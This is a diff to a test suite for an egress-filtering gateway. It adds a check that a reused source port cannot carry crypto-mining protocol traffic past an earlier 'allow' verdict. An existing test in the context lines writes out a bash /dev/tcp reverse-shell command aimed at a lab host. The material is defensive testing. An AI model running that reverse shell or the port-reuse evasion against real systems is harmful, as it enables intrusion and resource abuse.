@@ -112,6 +112,30 @@ class TestOneGateway:
         received = [r["msg"].get("method") for r in records(record) if r["dir"] == "in"]
         assert "login" not in received and "submit" not in received, (received, proc.stdout, proc.stderr)
 
+    def test_a_new_connection_on_a_fast_pathed_5_tuple_is_inspected_again(self, lab, gateway):
+        """Port reuse: the first connection is allowed and handed to the kernel, so egress
+        never sees it end (it ends with a reset). A second connection from the same source
+        port to the same server must be a new flow, not ride on the first one's verdict."""
+        lab.echo(lab.ext4, 7120)
+        code = ("import random,socket,struct\n"
+                "def conn(port, data):\n"
+                " s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1); s.bind(('',port))\n"
+                " s.settimeout(2); s.connect((%r,7120)); s.sendall(data)\n"
+                " try: got=s.recv(4096)[:4]\n"
+                " except OSError as e: got=type(e).__name__.encode()\n"
+                " s.setsockopt(socket.SOL_SOCKET,socket.SO_LINGER,struct.pack('ii',1,0)); s.close()\n"
+                " return got.decode()\n"
+                "port=random.randint(42000,48000)\n"
+                "print(conn(port, b'GET / HTTP/1.1\\r\\nHost: www.egress.test\\r\\n\\r\\n'))\n"
+                "print(conn(port, b'{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}\\n'))\n") % lab.ext4
+        out = lab.sbx(PY, "-c", code, timeout=20).stdout.split()
+        assert out == ["GET", "TimeoutError"], out      # the login never got its echo
+        deadline = time.monotonic() + 5
+        while time.monotonic() < deadline and not any(e["flow"]["reason"] == "reused" for e in gateway.flows_to(7120)):
+            time.sleep(0.1)
+        first = [e for e in gateway.flows_to(7120) if e["flow"]["reason"] == "reused"]
+        assert len(first) == 1 and first[0]["verdict"]["action"] == "allow", gateway.flows_to(7120)
+
     def test_reverse_shell_gets_no_command_through(self, lab, gateway):
         record = lab.server("listen", "--host", lab.ext4, "--port", "4444", "--send", "id\\n", "--idle", "4")
         lab.sbx("timeout", "3", "bash", "-c", "exec 3<>/dev/tcp/%s/4444; sh <&3 >&3 2>&3" % lab.ext4, timeout=15)
